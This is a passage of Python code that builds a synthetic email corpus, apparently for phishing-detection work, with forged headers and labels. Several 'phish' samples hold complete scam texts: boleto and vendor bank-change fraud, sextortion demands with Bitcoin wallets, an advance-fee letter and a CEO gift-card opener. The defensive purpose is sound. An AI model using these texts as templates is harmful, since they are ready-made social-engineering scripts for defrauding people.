        f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=1e100.net; s=20230601; t={epoch(t)}; x={epoch(t) + 604800};\n"
        f"        h=to:subject:message-id:date:from:in-reply-to:references:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;\n"
        f"        bh={b64(seed + 'xbh', 43)}=;\n        b={b64(seed + 'xb', 120)}",
        f"X-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 60)}",
        f"X-Google-Smtp-Source: AGHT+I{b64(seed + 'gss2', 84)}",
        "MIME-Version: 1.0",
        f"References: <CAJ{aln(seed + 'ref', 40)}@mail.gmail.com>",
        f"In-Reply-To: <CAJ{aln(seed + 'ref', 40)}@mail.gmail.com>",
        f"From: {addr('Cobrança | Embalagens Paulista', frm)}",
        f"Date: {rfc(t - timedelta(seconds=2), -180)}",
        f"Message-ID: {gmail_mid(seed)}",
        f"Subject: {ew('RE: Boleto NF 58213 - Embalagens Paulista - ATUALIZADO')}",
        f"To: {addr('Contas a Pagar - Vale Verde', rcpt)}",
    ])
    plain = """Bom dia,

Prezados, o boleto referente à NF 58213 enviado anteriormente apresentou inconsistência no registro
bancário (mudamos recentemente de banco e o anterior foi cancelado).

Segue em anexo o boleto atualizado com vencimento em 15/04/2025. Por gentileza, desconsiderar o boleto
anterior e efetuar o pagamento somente por este, para evitar duplicidade.

Se preferirem, o pagamento também pode ser feito pelo Pix copia e cola que consta no boleto.

Fico no aguardo do comprovante.

Att.,
Patrícia Gomes
Financeiro / Cobrança
Embalagens Paulista Ltda.
(11) 2671-4080
"""
    html = '<div dir="ltr">' + plain.replace("\n\n", "</div><div><br></div><div>").replace("\n", " ") + "</div>\n"
    html = html.replace('<div dir="ltr">', '<div dir="ltr"><div>', 1) + "</div>\n"
    body = Multi("mixed", f"000000000000{hx(seed + 'mx', 12)}", [
        gmail_alt(seed, plain, html),
        attachment("application/pdf", "Boleto_NF58213_atualizado.pdf", pdf),
    ])
    headers = outlook_in(seed, t, rcpt, "209.85.220.41", host, host,
                         Auth(frm, "pass", "embalagenspaulista-ltda.com", "none", "embalagenspaulista-ltda.com", "pass",
                              "google"), sender, tenant="valeverde", lang="pt", ctry="US")
    add("b35-phish-boleto-atualizado", "phish", "phishing",
        "Boleto fraud: a look-alike of a real packaging supplier (embalagenspaulista-ltda.com on Google Workspace, own "
        "SPF/DKIM pass) sends an 'atualizado' boleto PDF for an invoice number with a new beneficiary and Pix key",
        headers, body)


def a45():
    seed = "a45"
    t = at(2025, 2, 19, 10, 6, 42)
    rcpt = "administracion@talleresiruna.es"
    frm = "drive-shares-dm-noreply@google.com"
    fid = "1" + aln(seed + "fid", 32, ALNUM + "-_")
    link = f"https://drive.google.com/file/d/{fid}/view?usp=sharing_eil_se_dm&ts={hx(seed + 'ts', 8)}"
    ip = "209.85.220.69"
    ptr = "mail-sor-f69.google.com"
    name = "Propuesta_Comercial_2025_Firmada.pdf"
    sender = "\n".join([
        f"Received: by {ptr} (Google Transport Security) with SMTPS id {hx(seed + 'rid', 16)}sor{digits(seed + 'rs', 7)}{aln(seed + 'rt', 3, 'abcdefghijklmnopqrstuvwxyz')}.{int(hx(seed, 2), 16) % 40}\n"
        f"        for <{rcpt}>\n        (Google Transport Security);\n        {pacific(t - timedelta(seconds=1))}",
        dkim("google.com", "20230601", t, "reply-to:mime-version:message-id:date:subject:from:to:from:to:cc:subject:date:message-id:reply-to",
             seed, extra=f" x={epoch(t) + 604800}; darn=talleresiruna.es;"),
        f"X-Google-Smtp-Source: AGHT+I{b64(seed + 'gss2', 84)}",
        "MIME-Version: 1.0",
        f"Reply-To: {addr('Rodrigo Escamilla', 'rodrigo.escamilla.consultor@gmail.com')}",
        f"X-No-Auto-Attachment: 1",
        f"Message-ID: <{b64url(seed + 'mid', 22)}@notifications.google.com>",
        f"Date: {rfc(t - timedelta(seconds=2), 0)}",
        f"Subject: {ew(f'Documento compartido contigo: “{name}”')}",
        f"From: {addr('Rodrigo Escamilla (a través de Google Drive)', frm, 'Q')}",
        f"To: {rcpt}",
    ])
    html = html_page(f"""<body style="margin:0;background:#ffffff">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="font-family:'Google Sans',Roboto,Arial,sans-serif"><tr><td align="center">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="max-width:600px">
<tr><td style="padding:24px 24px 12px 24px"><img src="https://www.gstatic.com/images/branding/productlogos/drive_2020q4/v8/web-48dp/logo_drive_2020q4_color_2x_web_48dp.png" width="40" height="40" alt="Google Drive"></td></tr>
<tr><td style="padding:0 24px;font-size:20px;color:#202124">Rodrigo Escamilla ha compartido un archivo</td></tr>
<tr><td style="padding:16px 24px 0 24px">
<table role="presentation" cellpadding="0" cellspacing="0"><tr>
<td style="width:32px;height:32px;border-radius:50%;background:#1a73e8;color:#fff;text-align:center;font-size:14px">R</td>
<td style="padding-left:12px;font-size:14px;color:#3c4043">Rodrigo Escamilla (<a href="mailto:rodrigo.escamilla.consultor@gmail.com" style="color:#1a73e8;text-decoration:none">rodrigo.escamilla.consultor@gmail.com</a>) te ha invitado a ver el siguiente archivo:</td></tr></table>
</td></tr>
<tr><td style="padding:16px 24px 0 24px;font-size:14px;color:#3c4043;background:#f8f9fa;border-radius:8px">Buenos días, adjunto la propuesta comercial revisada y firmada según lo hablado. Quedo atento a sus comentarios. Saludos.</td></tr>
<tr><td style="padding:16px 24px">
<table role="presentation" cellpadding="0" cellspacing="0" style="border:1px solid #dadce0;border-radius:16px"><tr>
<td style="padding:8px 12px"><img src="https://drive-thirdparty.googleusercontent.com/32/type/application/pdf" width="20" height="20" alt=""></td>
<td style="padding:8px 12px 8px 0;font-size:14px;color:#3c4043;font-weight:500">{name}</td></tr></table>
</td></tr>
<tr><td style="padding:4px 24px 24px 24px"><a href="{link}" style="display:inline-block;background:#1a73e8;color:#ffffff;font-size:14px;font-weight:500;padding:10px 24px;border-radius:4px;text-decoration:none">Abrir</a></td></tr>
<tr><td style="padding:20px 24px;border-top:1px solid #dadce0;font-size:12px;color:#5f6368">Si no quieres recibir archivos de esta persona, <a href="https://drive.google.com/drive/blockuser?blockerEmail={rcpt}&amp;blockeeEmail=rodrigo.escamilla.consultor@gmail.com&amp;usp=sharing_eib_se_dm" style="color:#1a73e8">bloquea al remitente</a> en Drive.<br><br>
Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, EE. UU.<br>
Has recibido este correo electrónico porque rodrigo.escamilla.consultor@gmail.com ha compartido un archivo o una carpeta de Google Drive contigo.</td></tr>
</table></td></tr></table>
</body>""")
    plain = f"""Rodrigo Escamilla ha compartido un archivo

Rodrigo Escamilla (rodrigo.escamilla.consultor@gmail.com) te ha invitado a ver el siguiente archivo:

Buenos días, adjunto la propuesta comercial revisada y firmada según lo hablado. Quedo atento a sus comentarios. Saludos.

{name}
{link}

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, EE. UU.
Has recibido este correo electrónico porque rodrigo.escamilla.consultor@gmail.com ha compartido un archivo o una carpeta de Google Drive contigo.
"""
    body = Multi("alternative", f"000000000000{hx(seed + 'gb', 12)}",
                 [text(plain, "plain", "quoted-printable", "UTF-8"), text(html, "html", "quoted-printable", "UTF-8")])
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(frm, "pass", "google.com", "pass", "google.com", "pass", "20230601",
                            policy_="p=REJECT sp=REJECT dis=NONE"), sender)
    add("b35-phish-gdrive-share-propuesta", "phish", "phishing",
        "Genuine Google Drive share notification (passes google.com auth) from an unknown Gmail 'consultant' to a "
        "Spanish workshop's admin mailbox: a 'signed commercial proposal' PDF on Drive that carries the link to a "
        "credential page",
        headers, body)


def a46():
    seed = "a46"
    t = at(2025, 6, 24, 5, 14, 37)
    rcpt = "daniel.okafor@outlook.com"
    ip = "14.177.236.91"
    ptr = "static.vnpt.vn"
    btc = "bc1q" + aln(seed + "w", 38, "qpzry9x8gf2tvdw0s3jn54khce6mua7l")
    sender = "\n".join([
        f"Received: from [14.177.236.91] (helo=DESKTOP-4P3J8QK)\n\tby static.vnpt.vn with esmtpa (Exim 4.94.2)\n\t(envelope-from <{rcpt}>)\n"
        f"\tid 1uT{aln(seed + 'e', 3)}-{aln(seed + 'f', 6)}-{aln(seed + 'g', 2)}\n\tfor {rcpt}; {rfc(t - timedelta(seconds=1), 420)}",
        f"From: {addr('', rcpt)}",
        f"To: {rcpt}",
        "Subject: Your account has been hacked! You need to unlock it.",
        f"Date: {rfc(t - timedelta(seconds=2), 420)}",
        f"Message-ID: <{hx(seed + 'm', 12)}{digits(seed + 'n', 6)}@outlook.com>",
        "MIME-Version: 1.0",
        "X-Mailer: Microsoft Outlook 16.0",
    ])
    plain = f"""Hello!

I have to share bad news with you.
Approximately few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

As you may notice, I am sending you this message from your own email account ({rcpt}).

Here is the sequence of events:
Some time ago you have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase such thing online).
Obviously, I have easily managed to log in to your email account.

One week later, I have already installed Trojan virus to Operating Systems of all the devices that you use to access your email.
In fact, it was not really hard at all (since you were following the links from your inbox emails).
All ingenious is simple. =)

This software provides me with access to all the controllers of your devices (e.g., your microphone, video camera and keyboard).
I have downloaded all your information, data, photos, web browsing history to my servers.
I have access to all your messengers, social networks, emails, chat history and contacts list.

My virus continuously refreshes the signatures (it is driver-based), and hence remains invisible for antivirus software.

Likewise, I guess by now you understand why I have stayed undetected until this letter...

While gathering information about you, I have discovered that you are a big fan of adult websites.
I have recorded several videos of you while you were watching them, and made a video collage that shows both the
video you were watching and you at the same time.

Believe me, I do not want to send this video to all your contacts, but I will do it if you ignore this message.

I think USD 1450 will be enough to forget about this. Send it in Bitcoin (if you do not know how, search Google
"how to buy bitcoin").

My Bitcoin wallet (BTC): {btc}

After receiving the payment, I will delete the video and you will never hear from me again.
You have 48 hours (2 days) to make the payment. I receive a notification when you open this email, and the timer starts.

Filing a complaint somewhere does not make sense because this email cannot be tracked like my bitcoin address.
I do not make any mistakes.

If I find out that you have shared this message with someone else, the video will be immediately distributed.

Best regards!
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, "DESKTOP-4P3J8QK",
                         Auth(rcpt, "fail", "outlook.com", "fail", action="none", compauth="fail", reason="601"),
                         sender, scl=5, cat="SPOOF", ctry="VN")
    add("b35-phish-sextortion-en", "phish", "phishing",
        "Classic sextortion ('I hacked your devices, recorded you, pay USD 1450 in Bitcoin in 48 hours') that spoofs "
        "the victim's own outlook.com address from a Vietnamese ISP host (SPF fail, DMARC fail, compauth fail)",
        headers, text(plain, "plain", "7bit", "us-ascii"))


def a47():
    seed = "a47"
    t = at(2024, 11, 20, 18, 50, 3)
    rcpt = "mjose.navarro@gmail.com"
    ip = "187.121.14.203"
    btc = "bc1q" + aln(seed + "w", 38, "qpzry9x8gf2tvdw0s3jn54khce6mua7l")
    sender = "\n".join([
        f"From: {addr('', rcpt)}",
        f"To: {rcpt}",
        f"Subject: {ew('Tengo acceso a tu dispositivo. Lee esto con atención')}",
        f"Date: {rfc(t - timedelta(seconds=2), -180)}",
        f"Message-ID: <{hx(seed + 'm', 16)}@{hx(seed + 'h', 6)}.gmail.com>",
        "MIME-Version: 1.0",
    ])
    plain = f"""Hola,

Seguramente te sorprende recibir este correo desde tu propia dirección. Eso es porque hace unos meses
conseguí acceso a tu cuenta de correo y a los dispositivos que usas para navegar por internet.

Instalé un programa malicioso que me permite controlar tu cámara, tu micrófono y tu pantalla. Desde
entonces he estado observando tu actividad. Sé qué páginas para adultos visitas y tengo grabaciones
tuyas mientras las veías, junto con lo que aparecía en la pantalla.

También tengo una copia de todos tus contactos: familia, compañeros de trabajo y amigos.

Para que borre todo y nunca más sepas de mí, quiero que me envíes 1.300 USD en Bitcoin a esta cartera:

{btc}

Tienes 50 horas desde que abriste este mensaje. Sé cuándo lo abriste. Si no recibo el pago, enviaré
el vídeo a todos tus contactos y lo publicaré en redes sociales.

No respondas a este correo y no acudas a la policía: no pueden rastrear mi dirección ni la cartera.
Si cambias la contraseña no servirá de nada, el programa sigue en tu dispositivo.

Es un trato justo. Decide tú.
"""
    headers = gmail_in(seed, t, rcpt, ip, "",
                       Auth(rcpt, "softfail", "gmail.com", "fail", policy_="p=NONE sp=QUARANTINE dis=NONE"),
                       sender, tls="")
    add("b35-phish-sextortion-es", "phish", "phishing",
        "Spanish sextortion ('tengo acceso a tu dispositivo', 1.300 USD in Bitcoin within 50 hours) forging the "
        "victim's own gmail.com address from a Brazilian residential IP (SPF softfail, DMARC fail)",
        headers, text(plain, "plain", "8bit", "utf-8"))


def a48():
    seed = "a48"
    t = at(2025, 10, 21, 9, 58, 14)
    rcpt = "r.benton1962@hotmail.com"
    frm = "harrietkolawole@consultant.com"
    ip = "74.208.4.201"
    ptr = "mout.mail.com"
    sender = "\n".join([
        dkim("mail.com", "s1089575", t, "X-UI-Sender-Class:MIME-Version:Message-ID:From:To:Subject:Content-Type:Date:"
             "Reply-To:cc:content-transfer-encoding:content-type:date:from:message-id:mime-version:reply-to:subject:to", seed,
             extra=" i=harrietkolawole@consultant.com; q=dns/txt;"),
        "X-UI-Sender-Class: f2cb72be-343f-493d-8ec3-b1efb8d6185a",
        f"Received: from [102.90.{digits(seed + 'a', 2)}.{digits(seed + 'b', 3)}] ([102.90.{digits(seed + 'a', 2)}.{digits(seed + 'b', 3)}]) by web-mail.mail.com\n"
        f" (3c-app-mailcom-bs{int(hx(seed, 2), 16) % 16:02d}.server.lan [172.19.170.{int(hx(seed + 'x', 2), 16) % 200}]) (via HTTP); {rfc(t - timedelta(seconds=1), 120)}",
        "MIME-Version: 1.0",
        f"Message-ID: <trinity-{guid(seed + 'tr')}-{epoch(t)}{digits(seed + 'tn', 3)}@3c-app-mailcom-bs{int(hx(seed, 2), 16) % 16:02d}>",
        f"From: {addr('Mrs. Harriet Kolawole', frm)}",
        "To: undisclosed-recipients:;",
        "Subject: ATTENTION BENEFICIARY: Compensation Fund Release (USD 2,500,000.00)",
        f"Reply-To: harrietkolawole.unfund@gmail.com",
        f"Date: {rfc(t - timedelta(seconds=1), 120)}",
        "Importance: normal",
        "Sensitivity: Normal",
        "X-Priority: 3",
        f"X-Provags-ID: V03:K1:{b64(seed + 'pv', 120)}",
        f"UI-OutboundReport: notjunk:1;M01:P0:{b64(seed + 'ob', 40)}",
    ])
    plain = """ATTENTION BENEFICIARY,

This is to officially inform you that the United Nations in conjunction with the World Bank and the
International Monetary Fund (IMF) have approved the payment of your compensation fund of
USD 2,500,000.00 (Two Million Five Hundred Thousand United States Dollars) as one of the victims of
scam, unpaid contract/inheritance beneficiaries whose names were found in our database.

Your fund has been loaded into an ATM VISA CARD which will be delivered to your home address by
diplomatic courier service. You are required to reconfirm the following information to enable us
process your delivery without further delay:

1. Full Name:
2. Home Address:
3. Mobile/Telephone Number:
4. Occupation:
5. Age:
6. Copy of ID card or International Passport:

Please note that you are not to pay any fee other than the delivery/insurance charge of USD 185 which
will be communicated to you by the courier company. Reply only to this email:
harrietkolawole.unfund@gmail.com

Congratulations once again.

Yours faithfully,
Mrs. Harriet Kolawole
Director, Foreign Remittance Department
United Nations Compensation Commission (UNCC)
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "consultant.com", "pass", "mail.com", "pass", "s1089575"),
                         sender, ctry="DE")
    add("b35-phish-un-compensation-fund", "phish", "phishing",
        "Advance-fee 'UN compensation fund USD 2,500,000 on an ATM card' letter from a free mail.com (consultant.com) "
        "address to undisclosed recipients, Reply-To a Gmail address, asking for ID and a 185 USD courier fee",
        headers, text(plain, "plain", "quoted-printable", "UTF-8"))


def a49():
    seed = "a49"
    t = at(2025, 8, 12, 18, 34, 11)
    rcpt = "ap@hartwell-logistics.com"
    frm = "laura.jennings@northwind-packaging.co"
    ip = "40.107.212.128"
    ptr = "mail-dm3nam02on2128.outbound.protection.outlook.com"
    mbx = f"PH0PR07MB{digits(seed + 'mb', 4)}.namprd07.prod.outlook.com"
    letter = pdf_doc([
        "NORTHWIND PACKAGING, INC.",
        "1450 Industrial Parkway, Columbus, OH 43228",
        "",
        "August 12, 2025",
        "",
        "To: Hartwell Logistics, Inc. - Accounts Payable",
        "",
        "RE: Change of Banking Information",
        "",
        "Please be advised that effective immediately all payments to Northwind Packaging",
        "should be remitted to our new account below. Our previous account is under audit",
        "and can no longer receive ACH or wire transfers.",
        "",
        "Bank: Choice Financial Group",
        "Account name: Northwind Packaging Inc",
        "Routing (ABA): 091311229",
        "Account number: 202398471156",
        "",
        "Kindly update your vendor records and apply to open invoices NP-20931 and NP-20944.",
        "",
        "Sincerely,",
        "Laura Jennings, Accounts Receivable Manager",
    ], "Bank Change Letter", "20250812142200-04'00'")
    sender = "\n".join([
        dkim("northwind-packaging.co", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
             "X-MS-Exchange-SenderADCheck", seed),
        fold(f"Received: from {mbx} (2603:10b6:510:3a::12) by {mbx.replace('PH0PR07MB', 'SN7PR07MB')} with Microsoft SMTP "
             f"Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_build(t)}; {rfc(t - timedelta(seconds=1))}"),
        f"From: {addr('Laura Jennings', frm)}",
        f"To: {addr('Accounts Payable', rcpt)}",
        f"CC: {addr('Tom Reyes', 'treyes@northwind-packaging.co')}",
        "Subject: RE: Invoice NP-20931 / NP-20944 - updated remittance details",
        "Thread-Topic: Invoice NP-20931 / NP-20944 - updated remittance details",
        f"Thread-Index: {b64(seed + 'ti', 40)}",
        f"Date: {rfc(t - timedelta(seconds=2))}",
        f"Message-ID: {exchange_mid(seed, mbx)}",
        f"References: <SA1PR12MB{digits(seed + 'r1', 4)}{hx(seed + 'r2', 20, True)}@SA1PR12MB{digits(seed + 'r1', 4)}.namprd12.prod.outlook.com>",
        f"In-Reply-To: <SA1PR12MB{digits(seed + 'r1', 4)}{hx(seed + 'r2', 20, True)}@SA1PR12MB{digits(seed + 'r1', 4)}.namprd12.prod.outlook.com>",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator: ",
        "MIME-Version: 1.0",
    ])
    plain = """Hi Kevin,

Thanks for confirming. As mentioned on our call last month, we have moved our banking to a new provider,
and our old account is currently under audit, so it can no longer receive ACH payments.

Please find the signed bank change letter attached. Could you update our vendor profile and release
payment for NP-20931 and NP-20944 ($38,416.50 total) to the new account this week? Please send me the
confirmation once it's scheduled so I can reconcile on our end.

I'm in meetings most of today so email is best.

Thanks so much,

Laura Jennings
Accounts Receivable Manager
Northwind Packaging, Inc.
1450 Industrial Parkway | Columbus, OH 43228

________________________________
From: Kevin Adler <ap@hartwell-logistics.com>
Sent: Monday, August 11, 2025 3:07 PM
To: Laura Jennings <laura.jennings@northwind-packaging.com>
Subject: RE: Invoice NP-20931 / NP-20944

Hi Laura,

Both invoices are approved and scheduled for our Thursday payment run.

Regards,
Kevin Adler
Accounts Payable | Hartwell Logistics, Inc.

________________________________
From: Laura Jennings <laura.jennings@northwind-packaging.com>
Sent: Friday, August 8, 2025 10:12 AM
To: Accounts Payable <ap@hartwell-logistics.com>
Subject: Invoice NP-20931 / NP-20944

Good morning,

Attached are invoices NP-20931 and NP-20944 for the July corrugated shipments. Please let me know
when they are scheduled for payment.

Best,
Laura
"""
    html = html_page("<body><div style=\"font-family:Aptos,Calibri,Arial,sans-serif;font-size:11pt\">"
                     + plain.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\n", "<br>\n")
                     + "</div></body>")
    body = Multi("mixed", f"_004_{mbx.split('.')[0]}{hx(seed + 'b1', 16, True)}namp_", [
        Multi("alternative", f"_000_{mbx.split('.')[0]}{hx(seed + 'b2', 16, True)}namp_",
              [text(plain, "plain", "quoted-printable", "us-ascii"), text(html, "html", "quoted-printable", "us-ascii")]),
        attachment("application/pdf", "Northwind_Bank_Change_Letter.pdf", letter),
    ])
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "northwind-packaging.co", "none", "northwind-packaging.co", "pass", "selector1"),
                         sender, tenant="hartwell")
    add("b35-phish-vendor-bank-change-bec", "phish", "phishing",
        "BEC thread hijack: reply in a real invoice thread from northwind-packaging.co (look-alike of the supplier's "
        ".com, own Microsoft 365 tenant, passes SPF/DKIM) asking AP to pay $38,416.50 to a new account per an attached letter",
        headers, body)


def a50():
    seed = "a50"
    t = at(2025, 5, 8, 8, 12, 49)
    rcpt = "administracion@talleresiruna.es"
    frm = "direccion.talleresiruna@gmail.com"
    ip = "209.85.221.49"
    ptr = "mail-wr1-f49.google.com"
    sender = "\n".join([
        f"Received: by {ptr} with SMTP id {hx(seed + 'rid', 16)}-{hx(seed + 'rie', 4)}{aln(seed + 'rif', 2, 'abcdefghijklmnopqrstuvwxyz')}.{int(hx(seed, 2), 16) % 30}\n"
        f"        for <{rcpt}>; {pacific(t - timedelta(seconds=1))}",
        dkim("gmail.com", "20230601", t, "to:date:message-id:subject:mime-version:content-transfer-encoding:from:from:to:"
             "cc:subject:date:message-id:reply-to", seed, extra=f" x={epoch(t) + 604800}; darn=talleresiruna.es;"),
        f"X-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 60)}",
        f"X-Google-Smtp-Source: AGHT+I{b64(seed + 'gss2', 84)}",
        f"From: {addr('Iñaki Goikoetxea', frm)}",
        "Mime-Version: 1.0 (1.0)",
        "Subject: Tarea urgente",
        f"Date: {rfc(t - timedelta(seconds=2), 120)}",
        f"Message-Id: <{guid(seed + 'mid').upper()}@gmail.com>",
        f"To: {rcpt}",
        "X-Mailer: iPhone Mail (22E240)",
    ])
    plain = """Hola Ainhoa,

¿Estás en la oficina? Necesito que me hagas una gestión urgente y confidencial. Estoy en una reunión con
un cliente y no puedo atender llamadas ahora mismo, así que mejor por aquí.

Necesito comprar unas tarjetas regalo para unos clientes antes de mediodía. Contéstame en cuanto lo veas
y te explico.

Gracias,
Iñaki

Enviado desde mi iPhone
"""
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(frm, "pass", "gmail.com", "pass", "gmail.com", "pass", "20230601",
                            policy_="p=NONE sp=QUARANTINE dis=NONE"), sender)
    add("b35-phish-ceo-giftcard-es", "phish", "phishing",
        "CEO-fraud opener in Spanish ('¿estás en la oficina? gestión urgente y confidencial... tarjetas regalo') from a "
        "Gmail address using the director's name, sent from an iPhone to the company's administration mailbox",
        headers, Leaf("text/plain", plain.encode("utf-8"), "quoted-printable", "; charset=utf-8"))


# =============================================================================================
# LEGITIMATE
# =============================================================================================


def ms_account_mid(seed: str) -> str:
    return f"<{aln(seed + 'ma', 12, UPNUM)}.{aln(seed + 'mb', 13, UPNUM)}@{['BL02', 'MW2', 'SN1', 'CO1'][int(hx(seed, 1), 16) % 4]}EPF000{hx(seed + 'mc', 5, True)}>"


def l01():
    seed = "l01"
    t = at(2025, 4, 2, 18, 26, 3)
    rcpt = "daniel.okafor@outlook.com"
    frm = "account-security-noreply@accountprotection.microsoft.com"
    ip = "40.107.223.45"
    ptr = "mail-dm6nam11on2045.outbound.protection.outlook.com"
    sender = "\n".join([
        dkim("accountprotection.microsoft.com", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
             "X-MS-Exchange-SenderADCheck", seed),
        f"From: {addr('Microsoft account team', frm)}",
        f"Date: {rfc(t - timedelta(seconds=1), -420)}",
        "Subject: Microsoft account security code",
        f"Message-ID: {ms_account_mid(seed)}",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        "X-MS-Exchange-SenderADCheck: 1",
    ])
    plain = """Microsoft account

Security code

Please use the following security code for the Microsoft account da*****@outlook.com.

Security code: 482913

If you didn't request this code, you can safely ignore this email. Someone else might have typed your email address by mistake.

Thanks,
The Microsoft account team
"""
    html = html_page("""<body>
<table dir="ltr">
<tr><td id="i1" style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>
<tr><td id="i2" style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec;">Security code</td></tr>
<tr><td id="i3" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Please use the following security code for the Microsoft account <a dir="ltr" id="iAccount" class="link" style="color:#2672ec;text-decoration:none" href="mailto:da*****@outlook.com">da*****@outlook.com</a>.</td></tr>
<tr><td id="i4" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Security code: <span style="font-family:'Segoe UI Bold','Segoe UI Semibold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:14px;font-weight:bold;color:#2a2a2a;">482913</span></td></tr>
<tr><td id="i5" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">If you didn't request this code, you can safely ignore this email. Someone else might have typed your email address by mistake.</td></tr>
<tr><td id="i6" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Thanks,</td></tr>
<tr><td id="i7" style="padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The Microsoft account team</td></tr>
</table>
</body>""")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "accountprotection.microsoft.com", "pass", "accountprotection.microsoft.com",
                              "pass", "selector1"), sender)
    add("b35-legit-microsoft-security-code", "legit", "bulk",
        "Genuine Microsoft account one-time security code mail (account-security-noreply@accountprotection.microsoft.com, "
        "all auth passes), requested by the user, no links besides the masked mailto",
        headers, Multi("alternative", f"--_{hx(seed + 'b', 8)}-{hx(seed + 'c', 4)}-{hx(seed + 'd', 4)}-{hx(seed + 'e', 4)}-{hx(seed + 'f', 12)}_",
                       [text(plain, "plain", "quoted-printable", "utf-8"), text(html, "html", "quoted-printable", "utf-8")]))


def l02():
    seed = "l02"
    t = at(2025, 1, 30, 22, 47, 15)
    rcpt = "camila.rocha92@hotmail.com"
    frm = "account-security-noreply@accountprotection.microsoft.com"
    ip = "40.107.236.87"
    ptr = "mail-bn8nam12on2087.outbound.protection.outlook.com"
    sender = "\n".join([
        dkim("accountprotection.microsoft.com", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
             "X-MS-Exchange-SenderADCheck", seed),
        f"From: {addr('Equipe de contas da Microsoft', frm)}",
        f"Date: {rfc(t - timedelta(seconds=1), -480)}",
        f"Subject: {ew('Novo aplicativo conectado à sua conta da Microsoft', 'Q')}",
        f"Message-ID: {ms_account_mid(seed)}",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        "X-MS-Exchange-SenderADCheck: 1",
    ])
    manage = "https://account.live.com/consent/Manage?guat=1"
    plain = f"""Conta da Microsoft

Novo aplicativo com acesso aos seus dados

Outlook for iOS and Android conectado à conta da Microsoft ca**********@hotmail.com.

Se você não concedeu esse acesso, remova o aplicativo da sua conta.
Gerenciar seus aplicativos: {manage}

Você também pode cancelar a assinatura desses emails ou alterar onde você recebe alertas de segurança.
https://account.live.com/SecurityNotifications/Update

Obrigado,
Equipe de contas da Microsoft
"""
    html = html_page(f"""<body>
<table dir="ltr">
<tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070;">Conta da Microsoft</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec;">Novo aplicativo com acesso aos seus dados</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Outlook for iOS and Android conectado à conta da Microsoft <a dir="ltr" style="color:#2672ec;text-decoration:none" href="mailto:ca**********@hotmail.com">ca**********@hotmail.com</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Se você não concedeu esse acesso, remova o aplicativo da sua conta.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;"><a style="color:#2672ec;text-decoration:none" href="{manage}">Gerenciar seus aplicativos</a></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Você também pode <a style="color:#2672ec;text-decoration:none" href="https://account.live.com/SecurityNotifications/Update">cancelar a assinatura desses emails ou alterar onde você recebe alertas de segurança</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Obrigado,</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Equipe de contas da Microsoft</td></tr>
</table>
</body>""", lang="pt-BR")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "accountprotection.microsoft.com", "pass", "accountprotection.microsoft.com",
                              "pass", "selector1"), sender, lang="pt")
    add("b35-legit-microsoft-novo-app-pt", "legit", "bulk",
